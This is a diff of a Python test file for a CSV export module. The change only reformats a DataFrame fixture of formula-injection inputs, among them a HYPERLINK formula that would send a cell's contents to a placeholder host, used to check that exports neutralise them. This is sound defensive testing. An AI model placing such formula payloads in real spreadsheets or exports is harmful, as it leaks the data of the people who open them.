@@ -9,8 +9,12 @@ import pandas as pd
 
 from monitor.reports import downloads as exports
 
-FRAME = pd.DataFrame({"text": ['=HYPERLINK("http://x?"&A1)', "@SUM(1)", "+cmd", "\t=1", "-x", "Bodø"],
-                      "amount": [D("-100.00"), D("1.50"), D("0.00"), None, D("2.25"), D("1234567.89")]})
+FRAME = pd.DataFrame(
+    {
+        "text": ['=HYPERLINK("http://x?"&A1)', "@SUM(1)", "+cmd", "\t=1", "-x", "Bodø"],
+        "amount": [D("-100.00"), D("1.50"), D("0.00"), None, D("2.25"), D("1234567.89")],
+    }
+)
 
 
 def test_csv_neutralises_text_and_keeps_amounts():
